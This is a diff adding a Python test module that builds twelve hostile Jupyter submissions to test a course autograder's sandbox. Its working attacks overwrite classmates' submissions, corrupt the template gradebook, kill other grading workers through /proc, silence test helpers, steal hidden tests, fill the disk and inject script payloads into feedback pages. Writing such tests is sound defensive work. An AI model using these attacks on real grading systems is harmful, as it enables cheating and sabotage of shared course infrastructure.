@@ -1,0 +1,228 @@
+"""Hostile submissions, one per class of attack on the grader (issue 26), for testing the grader.
+
+Each is written as a hostile student would, against the grader as it was before the sandbox. Where an
+attack reaches for the course itself it only acts on a course that holds the file TARGET, which a test
+puts there and names in the grader's PYTHONPATH: a run without the sandbox then damages the test's own
+course, never the checkout or another process on the machine. Built like devtools/badsubmissions.py's
+CASES (from the current notebooks, at run time), with the same Case: `bad_class(root, aid, ATTACKS)`.
+"""
+import nbformat
+
+from .badsubmissions import (Case, break_in, broken_function, broken_notebook, failing_tests, full_marks, losing,
+                             nb_bytes, solved)
+from grading.cells import is_graded
+
+TARGET = "ATTACK_TARGET"
+LINGER = "attack-lingers-after-grading"   # in the command line of the process attack 1 leaves behind
+
+_FIND_COURSE = (
+    "import os\n"
+    "def _course():\n"
+    "    for p in os.environ.get('PYTHONPATH', '').split(os.pathsep) + [os.environ.get('SPECLAB_COURSE_ROOT', '')]:\n"
+    f"        if p and os.path.exists(os.path.join(p, {TARGET!r})):\n"
+    "            return p\n")
+
+
+def _added_cell(nb, source, at=2):
+    """Insert a code cell of the student's own after the imports (before any test)."""
+    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
+    return nb
+
+
+def _with_cell(aid, nb, source):
+    """The submission's files: `nb` with a code cell of the student's own added (_added_cell)."""
+    return {f"{aid}.ipynb": nb_bytes(_added_cell(nb, source))}
+
+
+WRONG_BODY = "return -1.0  # a wrong answer: the attacks below try to have it pass"
+
+
+def _wrong(root, aid):
+    """The solved notebook with the break-in exercise returning a wrong value, which the attacks try to pass."""
+    return broken_notebook(root, aid, WRONG_BODY)
+
+
+def wrong_value(root, aid):
+    """expect(): full marks less the tests that fail when the break-in exercise returns WRONG_BODY's value."""
+    name = break_in(root, aid)
+    score, total = full_marks(root, aid)
+    wrong = f"def {name}(*args, **kwargs):\n    {WRONG_BODY}\n"
+    return score - sum(failing_tests(root, aid, name, wrong).values()), total
+
+
+def _attack_escape(root, aid):
+    # 1. the course root found in the kernel's environment; a classmate's submission overwritten; a
+    # detached process that outlives grading and then writes into the course
+    later = ("import os, sys, time\n"
+             "root = sys.argv[1]\n"
+             "for _ in range(600):\n"
+             "    if os.path.exists(os.path.join(root, 'grades.csv')):\n"
+             "        time.sleep(0.5)\n"
+             "        open(os.path.join(root, 'written_after_grading.txt'), 'w').write('hello')\n"
+             "        break\n"
+             "    time.sleep(0.2)\n")
+    code = (_FIND_COURSE + "import glob, subprocess, sys\n"
+            "root = _course()\n"
+            "if root:\n"
+            "    for nb in glob.glob(os.path.join(root, 'submitted', 'reference', '*', '*.ipynb')):\n"
+            "        open(nb, 'w').write(open(nb).read().replace('return', 'return None  #'))\n"
+            f"    subprocess.Popen([sys.executable, '-c', {later!r}, root, {LINGER!r}], start_new_session=True,\n"
+            "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")
+    return _with_cell(aid, solved(root, aid), code)
+
+
+def _attack_template(root, aid):
+    # 2. the template gradebook every submission's scratch gradebook is copied from, a few levels up
+    code = ("import os, sqlite3\n"
+            "here = os.getcwd()\n"
+            "for _ in range(8):\n"
+            "    here = os.path.dirname(here)\n"
+            "    db = os.path.join(here, 'template.db')\n"
+            "    if os.path.exists(db):\n"
+            "        con = sqlite3.connect(db)\n"
+            "        con.execute(\"UPDATE source_cell SET source = 'raise AssertionError(\\\"no\\\")' WHERE locked = 1\")\n"
+            "        con.commit()\n"
+            "        break\n")
+    return _with_cell(aid, solved(root, aid), code)
+
+
+def _attack_kill(root, aid):
+    # 3. the other grading workers, found through /proc (those grading this course: see TARGET) and killed
+    code = (_FIND_COURSE + "import signal\n"
+            "root, mine, p = _course(), set(), os.getpid()\n"
+            "while p > 1:\n"
+            "    mine.add(p)\n"
+            "    p = int(open(f'/proc/{p}/stat').read().rsplit(')', 1)[1].split()[1])\n"
+            "for pid in [int(d) for d in os.listdir('/proc') if d.isdigit()] if root else []:\n"
+            "    try:\n"
+            "        if pid in mine or root.encode() not in open(f'/proc/{pid}/environ', 'rb').read():\n"
+            "            continue\n"
+            "        parent = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
+            "        for victim in (pid, parent):\n"
+            "            if victim not in mine:\n"
+            "                os.kill(victim, signal.SIGKILL)\n"
+            "    except OSError:\n"
+            "        pass\n")
+    return _with_cell(aid, solved(root, aid), code)
+
+
+def _attack_displayhook(root, aid):
+    # 4. an execute_result before the error: nbgrader's determine_grade stops at the first one
+    return broken_function(root, aid, "import sys\nsys.displayhook('ok')\nraise ValueError('not done')")
+
+
+_SILENCE = "(lambda *args, **kwargs: None).__code__"
+_SILENCE_CHECKS = f"import speclab.checks as c\nc.check_close.__code__ = c.check_equal.__code__ = {_SILENCE}\n"
+
+
+def _attack_code(root, aid):
+    # 5. the test helpers handed to a function of the student's that replaces their code
+    nb = _wrong(root, aid)
+    code = ("def tidy(*helpers):\n"
+            "    for h in helpers:\n"
+            f"        h.__code__ = {_SILENCE}\n"
+            "tidy(check_close, check_equal)\n")
+    return _with_cell(aid, nb, code)
+
+
+def _attack_shadow(root, aid):
+    # 6. a numpy/ package beside the notebook: it loads the real numpy, then silences the test helpers
+    shadow = ("import os, sys\n"
+              "_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n"
+              "_saved = sys.path[:]\n"
+              "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]\n"
+              "del sys.modules['numpy']\n"
+              "import numpy as _real\n"
+              "sys.path[:] = _saved\n"
+              "sys.modules['numpy'] = _real\n"
+              "import speclab.checks as _c\n"
+              f"_c.check_close.__code__ = _c.check_equal.__code__ = {_SILENCE}\n")
+    return {f"{aid}.ipynb": nb_bytes(_wrong(root, aid)), "numpy/__init__.py": shadow.encode()}
+
+
+def _attack_transformer(root, aid):
+    # 7. IPython reached by import in a solution cell: an input transformer rewrites every later cell
+    rewrite = ("import IPython\n"
+               "IPython.get_ipython().input_transformers_post.append(lambda lines: [\n"
+               "    l.replace('check_close(', '(lambda *a, **k: None)(').replace('check_equal(', '(lambda *a, **k: None)(')\n"
+               "    for l in lines])\n\n")
+    return broken_function(root, aid, WRONG_BODY, before=rewrite)
+
+
+def _attack_capture(root, aid):
+    # 8. a cell magic: its body is a string to Python, which the scan never read
+    nb = _wrong(root, aid)
+    code = "%%capture\n" + _SILENCE_CHECKS
+    return _with_cell(aid, nb, code)
+
+
+def _attack_module(root, aid):
+    # 9. the same written to a module file and imported: the scan reads cells, not files
+    nb = _wrong(root, aid)
+    code = f"open('my_helpers.py', 'w').write({_SILENCE_CHECKS!r})\nimport my_helpers\n"
+    return _with_cell(aid, nb, code)
+
+
+def _attack_steal(root, aid):
+    # 10. the hidden tests read from the course's solutions/ (printed, and copied beside the notebook), and
+    # from the kernel's own history, after a test cell ran
+    code = ("import glob, json, shutil\n"
+            "for p in glob.glob('../../../solutions/*/*.ipynb') + glob.glob('/course/../solutions/*/*.ipynb'):\n"
+            "    for c in json.load(open(p))['cells']:\n"
+            "        if 'BEGIN HIDDEN' + ' TESTS' in ''.join(c['source']):\n"
+            "            print(''.join(c['source']))\n"
+            "    shutil.copy(p, 'stolen.txt')\n")
+    nb = _added_cell(solved(root, aid), code)
+    first = next(i for i, c in enumerate(nb.cells) if is_graded(c))
+    nb.cells.insert(first + 1, nbformat.v4.new_code_cell("print(In)"))
+    return {f"{aid}.ipynb": nb_bytes(nb)}
+
+
+ATTACK_DISK_MB = 100  # more than the sandbox's disk (64 MiB)
+
+
+def _attack_disk(root, aid):
+    # 11. a big file beside the notebook (nbgrader copies the folder into autograded/ and feedback/)
+    code = (f"with open('big.bin', 'wb') as f:\n    for _ in range({ATTACK_DISK_MB}):\n"
+            "        f.write(b'0' * (1 << 20))\n")
+    return _with_cell(aid, solved(root, aid), code)
+
+
+SCRIPT = "attack-script-ran"
+
+
+def _attack_html(root, aid):
+    # 12. raw <script> and onerror= in a markdown cell and in an output, for the feedback page
+    nb = solved(root, aid)
+    nb.cells.insert(2, nbformat.v4.new_markdown_cell(
+        f'<script>alert("{SCRIPT}")</script><img src="x" onerror="alert(\'{SCRIPT}\')">'))
+    nb.cells.insert(3, nbformat.v4.new_code_cell(
+        f"display({{'text/html': '<img src=x onerror=\"alert(1)\"><script>alert(\"{SCRIPT}\")</script>'}}, raw=True)"))
+    return {f"{aid}.ipynb": nb_bytes(nb)}
+
+
+ATTACKS = [
+    Case("attack_escape", "finds the course in its environment, overwrites a classmate's submission and leaves a "
+         "process that writes into the course after grading", _attack_escape, full_marks, "", False),
+    Case("attack_template", "rewrites the template gradebook a few folders up: every later student fails every test",
+         _attack_template, full_marks, "", False),
+    Case("attack_kill", "finds the other grading workers through /proc and kills them", _attack_kill, full_marks,
+         "", False),
+    Case("attack_displayhook", "calls sys.displayhook('ok') inside a wrong exercise", _attack_displayhook,
+         losing(None), "", True),
+    Case("attack_code", "hands the test helpers to a function that replaces their __code__", _attack_code,
+         wrong_value, "", True),
+    Case("attack_shadow", "ships a numpy/ package beside the notebook that silences the test helpers",
+         _attack_shadow, wrong_value, "", False),
+    Case("attack_transformer", "an IPython input transformer (IPython imported in a solution cell) that rewrites the "
+         "tests", _attack_transformer, wrong_value, "", True),
+    Case("attack_capture", "a %%capture cell whose body silences the test helpers", _attack_capture, wrong_value,
+         "", True),
+    Case("attack_module", "writes a module that silences the test helpers to a file and imports it", _attack_module,
+         wrong_value, "", False),
+    Case("attack_steal", "reads the hidden tests from solutions/ and from the kernel's history, prints them and "
+         "copies the file beside the notebook", _attack_steal, full_marks, "", False),
+    Case("attack_disk", f"writes a {ATTACK_DISK_MB} MB file beside the notebook", _attack_disk, full_marks, "", False),
+    Case("attack_html", "raw <script> and onerror= in a markdown cell and in an output", _attack_html, full_marks,
+         "", False),
+]
